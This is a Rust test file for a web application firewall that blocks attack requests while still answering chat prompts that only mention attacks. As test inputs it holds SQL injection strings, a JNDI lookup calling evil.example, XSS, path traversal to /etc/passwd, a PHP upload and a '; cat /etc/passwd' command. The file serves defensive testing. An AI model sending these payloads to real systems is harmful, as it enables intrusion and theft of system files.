//! Attacks on the wire are refused, wherever they stand; language about them is answered.

use crate::support::process::{Server, program};
use crate::support::stage::scratch;

/// So that one test's attacks do not block its own address.
const PATIENT: &str = "firewall.suspicious_threshold=1000000";

#[test]
fn attacks_are_refused_wherever_they_stand() {
    let server = Server::gateway(&[PATIENT]);
    for (head, body) in [
        ("GET /search?q=%27%20OR%201%3D1%20-- HTTP/1.1\r\n", ""),
        ("GET /health HTTP/1.1\r\nX-Data: ${jndi:ldap://evil.example/a}\r\n", ""),
        ("GET /health HTTP/1.1\r\nUser-Agent: sqlmap/1.7\r\n", ""),
        ("GET /health HTTP/1.1\r\nCookie: a=1; b=' or '1'='1\r\n", ""),
        (
            "POST /x HTTP/1.1\r\nContent-Type: application/json\r\n",
            r#"{"a":{"b":["<script>alert(1)</script>"]}}"#,
        ),
        (
            "POST /x HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n",
            "a=1&file=..%2f..%2fetc%2fpasswd",
        ),
        (
            "POST /x HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=b\r\n",
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\nx\r\n--b--\r\n",
        ),
        ("POST /v1/chat HTTP/1.1\r\n", r#"{"prompt":"hi","model":"' or 1=1 --"}"#),
    ] {
        let mut connection = server.connect();
        let length = body.len();
        connection.send(format!("{head}Host: localhost\r\nContent-Length: {length}\r\n\r\n{body}"));
        let answer = connection.answer();
        assert_eq!(answer.status, 403, "{head}{body}");
        assert_eq!(answer.json()["error"]["code"], "request_blocked");
        // It stays open: one bad request does not end it.
        assert_eq!(connection.get("/health").answer().status, 200);
    }
    server.stop();
}

#[test]
fn language_is_answered() {
    let server = Server::gateway(&[PATIENT]);
    let prompt =
        "Explain ' OR 1=1 --, <script>alert(1)</script>, ; cat /etc/passwd and ${jndi:ldap://x/}";
    let mut connection = server.connect();
    let body = serde_json::json!({ "prompt": prompt }).to_string();
    let answer = connection.post("/v1/chat", &body).answer();
    assert_eq!(answer.json()["response"], prompt);
    let body = serde_json::json!({ "messages": [{ "role": "user", "content": prompt }] });
    assert_eq!(connection.post("/v1/chat/completions", &body.to_string()).answer().status, 200);
    server.stop();
}

#[test]
fn a_block_is_told_without_secrets_and_a_second_one_follows_many() {
    let mut server = Server::gateway(&["firewall.suspicious_threshold=20"]);
    let mut connection = server.connect();
    let attack = "/x?q=1%20union%20select%201,2";
    let statuses: Vec<u16> = (0..8).map(|_| connection.get(attack).answer().status).collect();
    assert_eq!(statuses, [403; 8]);
    let line = server.line(|line| line.contains("firewall: block"));
    assert!(line.contains("rule=sqli.") && line.contains("part=query.q"), "{line}");
    server.line(|line| line.contains("is blocked for 300 s: attacks"));
    assert_eq!(connection.get("/health").answer().status, 403);
    server.stop();
}

#[test]
fn the_program_explains_a_request() {
    let file = scratch().join("attack.http");
    std::fs::write(&file, "GET /x?id=1%27%20or%20%271%27=%271 HTTP/1.1\r\nHost: a\r\n\r\n")
        .unwrap();
    let mut command = program();
    let output = command.args(["check", "--request"]).arg(&file).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    let verdict: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!((&verdict["action"], &verdict["part"]), (&"block".into(), &"query.id".into()));
    std::fs::remove_file(file).unwrap();
}
